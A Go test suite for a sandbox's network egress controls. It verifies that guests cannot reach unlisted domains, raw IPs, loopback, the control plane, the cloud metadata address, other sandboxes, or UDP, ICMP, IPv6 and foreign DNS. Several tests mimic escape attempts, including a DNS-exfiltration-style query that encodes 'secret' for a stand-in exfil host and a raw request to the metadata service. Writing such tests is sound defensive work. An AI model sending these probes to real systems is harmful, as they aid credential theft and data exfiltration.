package egress

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/space-sandbox/space/internal/network"
)

var allowAllowed = Policy{Egress: Egress{Allow: []string{"allowed.test"}}}

// get fetches url from the guest; it returns the body or the error.
func (e *env) get(url string, hdr ...string) (string, int, error) {
	req, _ := http.NewRequest("GET", url, nil)
	for i := 0; i+1 < len(hdr); i += 2 {
		if hdr[i] == "Host" {
			req.Host = hdr[i+1]
		} else {
			req.Header.Set(hdr[i], hdr[i+1])
		}
	}
	resp, err := e.client().Do(req)
	if err != nil {
		return "", 0, err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return string(b), resp.StatusCode, err
}

// rawExchange connects from the guest to addr, writes msg and returns all
// it reads back until the proxy or upstream closes.
func (e *env) rawExchange(addr, msg string) (string, error) {
	c, err := e.dial(context.Background(), "tcp4", addr)
	if err != nil {
		return "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if msg != "" {
		if _, err := io.WriteString(c, msg); err != nil {
			return "", err
		}
	}
	b, err := io.ReadAll(c)
	return string(b), err
}

func (e *env) lastRecord(kind string) Record {
	recs, _ := e.svc.Log(e.id)
	for i := len(recs) - 1; i >= 0; i-- {
		if recs[i].Kind == kind {
			return recs[i]
		}
	}
	return Record{}
}

// awaitRecord returns the newest record of kind once done says it is
// complete: byte counts are filled in when the connection closes, which may
// be just after the client has its answer.
func (e *env) awaitRecord(kind string, done func(Record) bool) Record {
	e.t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		r := e.lastRecord(kind)
		if done(r) || time.Now().After(deadline) {
			return r
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func (e *env) expectBlocked(what string, body string, code int, err error) {
	e.t.Helper()
	if err == nil && code == http.StatusOK {
		e.t.Fatalf("%s: reached upstream: %q", what, body)
	}
}

func TestDefaultDeny(t *testing.T) {
	e := newEnv(t, Policy{})
	body, code, err := e.get("http://" + e.addrA.String() + "/")
	e.expectBlocked("http by IP", body, code, err)
	body, code, err = e.get("http://allowed.test/")
	e.expectBlocked("http by name", body, code, err)
	if _, err := e.resolver("172.31.0.1:53").LookupHost(context.Background(), "allowed.test"); err == nil {
		t.Fatal("platform DNS answered a name under default deny")
	}
	if got := e.hits["A"].Load() + e.hits["B"].Load(); got != 0 {
		t.Fatalf("upstreams saw %d requests", got)
	}
	if r := e.lastRecord("dns"); r.Allowed || r.Rule != "default deny" {
		t.Fatalf("dns audit record %+v", r)
	}
}

func TestAllowedDomainReachable(t *testing.T) {
	e := newEnv(t, allowAllowed)
	body, code, err := e.get("http://allowed.test/")
	if err != nil || code != 200 || !strings.HasPrefix(body, "server=A host=allowed.test") {
		t.Fatalf("GET allowed.test: %d %q %v", code, body, err)
	}
	r := e.awaitRecord("http", func(r Record) bool { return r.BytesIn > 0 && r.BytesOut > 0 })
	if !r.Allowed || r.Rule != "allow allowed.test" || r.Upstream != e.addrA.String()+":80" || r.BytesIn == 0 || r.BytesOut == 0 {
		t.Fatalf("audit record %+v", r)
	}
	body, code, err = e.get("https://allowed.test/")
	if err != nil || code != 200 || body != "server=A\n" {
		t.Fatalf("GET https://allowed.test: %d %q %v", code, body, err)
	}
	if r := e.lastRecord("tls"); !r.Allowed || r.Destination != "allowed.test:443" {
		t.Fatalf("tls audit record %+v", r)
	}
}

func TestOtherDomainBlocked(t *testing.T) {
	e := newEnv(t, allowAllowed)
	if _, err := e.resolver("172.31.0.1:53").LookupHost(context.Background(), "other.test"); err == nil {
		t.Fatal("platform DNS resolved other.test")
	}
	body, code, err := e.get("http://"+e.addrB.String()+"/", "Host", "other.test")
	e.expectBlocked("http other.test", body, code, err)
	if code != http.StatusForbidden {
		t.Fatalf("want 403 from the proxy, got %d %v", code, err)
	}
	if e.hits["B"].Load() != 0 {
		t.Fatal("other.test's server was reached")
	}
}

func TestRawIPBlocked(t *testing.T) {
	e := newEnv(t, allowAllowed)
	// The allowed domain's own address, asked by number.
	body, code, err := e.get("http://" + e.addrA.String() + "/")
	e.expectBlocked("http to allowed.test's IP", body, code, err)
	out, _ := e.rawExchange(e.addrA.String()+":7000", "hello\n")
	if out != "" || e.hits["raw"].Load() != 0 {
		t.Fatalf("raw TCP to allowed.test's IP reached upstream: %q", out)
	}
	c, err := e.dial(context.Background(), "tcp4", e.addrA.String()+":443")
	if err == nil {
		tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true})
		err = tc.Handshake()
		c.Close()
	}
	if err == nil {
		t.Fatal("TLS without SNI to allowed.test's IP completed a handshake")
	}
	if e.hits["A"].Load() != 0 {
		t.Fatal("allowed.test's server was reached by IP")
	}
}

func TestHostAddressBlocked(t *testing.T) {
	// Even a policy covering the host's address by CIDR cannot reach it.
	e := newEnv(t, Policy{Egress: Egress{Allow: []string{"198.18.0.0/15"}}})
	l, err := net.Listen("tcp4", e.hostAddr.String()+":0")
	must(t, err)
	defer l.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := l.Accept(); err == nil {
			accepted <- struct{}{}
			c.Close()
		}
	}()
	out, _ := e.rawExchange(l.Addr().String(), "hi")
	if out != "" {
		t.Fatalf("got %q from a host address", out)
	}
	if r := e.lastRecord("tcp"); r.Allowed || r.Rule != "forbidden address" {
		t.Fatalf("audit %+v", r)
	}
	select {
	case <-accepted:
		t.Fatal("host listener accepted a guest connection")
	default:
	}
	// Same policy reaches the upstream: the CIDR path itself works.
	if out, _ := e.rawExchange(e.addrA.String()+":7000", ""); out != "raw-hello\n" {
		t.Fatalf("CIDR-allowed raw TCP: %q", out)
	}
}

func TestLoopbackBlocked(t *testing.T) {
	e := newEnv(t, Policy{Egress: Egress{Allow: []string{"loopy.test", "127.0.0.0/8"}}})
	e.res.set("loopy.test", netipMust("127.0.0.1"))
	body, code, err := e.get("http://loopy.test/")
	e.expectBlocked("name resolving to loopback", body, code, err)
	out, _ := e.rawExchange(network.GatewayAddr.String()+":22", "x")
	if out != "" {
		t.Fatalf("gateway port answered %q", out)
	}
	if _, err := e.resolver("172.31.0.1:53").LookupHost(context.Background(), "loopy.test"); err == nil {
		t.Fatal("platform DNS handed out a loopback address")
	}
}

func TestControlPlaneBlocked(t *testing.T) {
	// The control plane listens on the host's loopback (spaced's default)
	// and may listen on host addresses; neither is reachable, even with
	// default allow and a name pointing at it.
	e := newEnv(t, Policy{Egress: Egress{Default: "allow"}})
	hit := make(chan struct{}, 4)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hit <- struct{}{} })}
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	must(t, err)
	defer srv.Close()
	go srv.Serve(l)
	_, port, _ := net.SplitHostPort(l.Addr().String())
	e.res.set("control.test", netipMust("127.0.0.1"))
	for _, u := range []string{"http://127.0.0.1:" + port + "/", "http://control.test:" + port + "/", "http://" + e.hostAddr.String() + ":" + port + "/"} {
		body, code, err := e.get(u)
		e.expectBlocked(u, body, code, err)
	}
	select {
	case <-hit:
		t.Fatal("control plane was reached")
	default:
	}
}

func TestMetadataBlocked(t *testing.T) {
	e := newEnv(t, Policy{Egress: Egress{Allow: []string{"169.254.0.0/16", "metadata.test"}}})
	e.res.set("metadata.test", netipMust("169.254.169.254"))
	out, _ := e.rawExchange("169.254.169.254:80", "GET / HTTP/1.0\r\n\r\n")
	if out != "" {
		t.Fatalf("metadata address answered %q", out)
	}
	if r := e.lastRecord("tcp"); r.Rule != whyPrivate {
		t.Fatalf("audit %+v", r)
	}
	body, code, err := e.get("http://metadata.test/")
	e.expectBlocked("metadata by name", body, code, err)
}

func TestOtherSandboxBlocked(t *testing.T) {
	e := newEnv(t, Policy{Egress: Egress{Default: "allow", Allow: []string{"172.31.0.0/16"}}})
	other := newEnv(t, Policy{Egress: Egress{Default: "allow"}})
	// A server in the other guest, at the address every guest has.
	var l net.Listener
	must(t, network.InNamespace(other.guestNS, func() (err error) {
		l, err = net.Listen("tcp4", network.GuestAddr.String()+":8000")
		return err
	}))
	defer l.Close()
	got := make(chan struct{}, 1)
	go func() {
		if c, err := l.Accept(); err == nil {
			got <- struct{}{}
			c.Close()
		}
	}()
	for _, a := range []string{"172.31.0.2:8000", "172.31.0.1:8000", "172.31.0.3:8000", "172.31.1.2:8000"} {
		out, _ := e.rawExchange(a, "x")
		if out != "" {
			t.Fatalf("%s answered %q", a, out)
		}
	}
	select {
	case <-got:
		t.Fatal("the other sandbox's guest was reached")
	default:
	}
}

func TestUDPBlocked(t *testing.T) {
	e := newEnv(t, Policy{Egress: Egress{Default: "allow"}})
	c, err := e.dial(context.Background(), "udp4", e.addrA.String()+":9999")
	must(t, err)
	defer c.Close()
	c.Write([]byte("ping"))
	c.SetReadDeadline(time.Now().Add(time.Second)) // absence cannot be awaited otherwise
	if n, err := c.Read(make([]byte, 64)); err == nil {
		t.Fatalf("UDP echo answered %d bytes", n)
	}
	if e.hits["udp"].Load() != 0 {
		t.Fatal("UDP reached the upstream")
	}
}

func TestICMPBlocked(t *testing.T) {
	e := newEnv(t, Policy{Egress: Egress{Default: "allow"}})
	for _, dst := range []string{network.GatewayAddr.String(), e.addrA.String()} {
		var fd int
		must(t, network.InNamespace(e.guestNS, func() (err error) {
			fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
			return err
		}))
		echo := []byte{8, 0, 0, 0, 0x12, 0x34, 0, 1}
		sum := uint32(0)
		for i := 0; i < len(echo); i += 2 {
			sum += uint32(echo[i])<<8 | uint32(echo[i+1])
		}
		sum = (sum >> 16) + (sum & 0xffff)
		cs := ^uint16(sum)
		echo[2], echo[3] = byte(cs>>8), byte(cs)
		sa := &unix.SockaddrInet4{Addr: netipMust(dst).As4()}
		must(t, unix.Sendto(fd, echo, 0, sa))
		tv := unix.NsecToTimeval(int64(time.Second))
		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
		buf := make([]byte, 1500)
		for {
			n, _, err := unix.Recvfrom(fd, buf, 0)
			if err != nil {
				break
			}
			if n > 20 && buf[20] == 0 { // echo reply
				unix.Close(fd)
				t.Fatalf("ping %s answered", dst)
			}
		}
		unix.Close(fd)
	}
}

func TestIPv6Blocked(t *testing.T) {
	e := newEnv(t, Policy{Egress: Egress{Default: "allow"}})
	for _, a := range []string{"[fd00::1]:80", "[fe80::53:50ff:fe00:1%eth0]:80", "[2001:db8::1]:80"} {
		c, err := e.dial(context.Background(), "tcp6", a)
		if err == nil {
			c.Close()
			t.Fatalf("IPv6 connection to %s succeeded", a)
		}
	}
}

func TestForeignDNSBlocked(t *testing.T) {
	e := newEnv(t, allowAllowed)
	foreign := e.addrA.String() + ":53"
	for _, nw := range []string{"udp", "tcp"} {
		m := new(dns.Msg)
		m.SetQuestion("c2VjcmV0.exfil.test.", dns.TypeA)
		cl := &dns.Client{Net: nw, Dialer: nil, Timeout: 3 * time.Second}
		c, err := e.dial(context.Background(), nw+"4", foreign)
		must(t, err)
		resp, _, err := cl.ExchangeWithConn(m, &dns.Conn{Conn: c})
		c.Close()
		if err != nil {
			t.Fatalf("%s: %v", nw, err)
		}
		// The platform answered in the foreign server's place.
		if resp.Rcode != dns.RcodeNameError || len(resp.Answer) != 0 {
			t.Fatalf("%s: foreign DNS answered %v", nw, resp)
		}
	}
	if n := e.hits["dns"].Load(); n != 0 {
		t.Fatalf("foreign DNS server saw %d queries", n)
	}
}
